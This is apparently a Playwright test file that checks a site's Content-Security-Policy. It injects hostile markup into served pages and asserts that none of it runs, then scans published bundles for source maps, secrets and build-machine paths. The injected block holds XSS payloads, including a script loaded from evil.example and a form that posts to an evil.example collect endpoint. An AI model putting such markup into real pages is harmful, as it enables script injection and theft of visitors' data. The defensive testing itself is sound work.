import { expect, test } from '@playwright/test';
import { PATHS } from '../../kit/routes.ts';

test('markup that an attacker got into a page runs no script and loads nothing', async ({
  page,
  baseURL,
}) => {
  for (const path of ['/', '/resources/insights']) {
    const response = await page.goto(path);
    const policy = response!.headers()['content-security-policy']!;
    expect(policy).not.toMatch(/unsafe-(?:inline|eval)|strict-dynamic|\*/);
    const hostile = `
      <script>window.ran = 'inline'</script>
      <script src="https://evil.example/x.js"></script>
      <script type="module">window.ran = 'module'</script>
      <img src="/no-such-picture" onerror="window.ran = 'onerror'">
      <svg onload="window.ran = 'onload'"></svg>
      <iframe srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>
      <a id="js" href="javascript:window.ran='javascript:'">x</a>
      <form id="away" action="https://evil.example/collect"><button>x</button></form>
      <base href="https://evil.example/">`;
    await page.route(`${baseURL}${path}`, async (route) => {
      const served = await route.fetch();
      const body = (await served.text()).replace('</main>', `${hostile}</main>`);
      await route.fulfill({ response: served, body });
    });
    await page.goto(path, { waitUntil: 'load' });
    await page.evaluate(() => {
      document.querySelector<HTMLAnchorElement>('#js')!.click();
      document.querySelector<HTMLFormElement>('#away')!.requestSubmit();
    });
    await page.waitForTimeout(150);
    const found = await page.evaluate(() => ({
      ran: (window as unknown as { ran?: string }).ran,
      base: document.baseURI,
      host: location.host,
    }));
    expect([path, found]).toEqual([
      path,
      { ran: undefined, base: `${baseURL}${path}`, host: new URL(baseURL!).host },
    ]);
    await page.unroute(`${baseURL}${path}`);
  }
});

test('nothing published contains a source map, a secret or a name of the build machine', async ({
  request,
}) => {
  const live = await (await request.get('/_live.json')).json();
  const seen = new Set<string>();
  const queue = [live.shell, JSON.stringify(live)].join();
  for (const path of PATHS) {
    const html = await (await request.get(path)).text();
    for (const [address] of `${html}${queue}`.matchAll(/\/_sections\/[a-z0-9./_-]+\.(?:js|css)/gi))
      seen.add(address);
    expect([path, html]).toEqual([
      path,
      expect.not.stringMatching(/sourceMappingURL|PREVIEW_SECRET|\/(?:home|root|Users)\//),
    ]);
  }
  expect(seen.size).toBeGreaterThan(5);
  for (const address of seen) {
    const response = await request.get(address);
    expect([address, response.status()]).toEqual([address, 200]);
    const text = await response.text();
    expect([address, text.match(/sourceMappingURL=|new Function\(|\/(?:home|root|Users)\/\w+/g)]).toEqual([
      address,
      null,
    ]);
    expect((await request.get(`${address}.map`)).status()).toBe(404);
  }
});
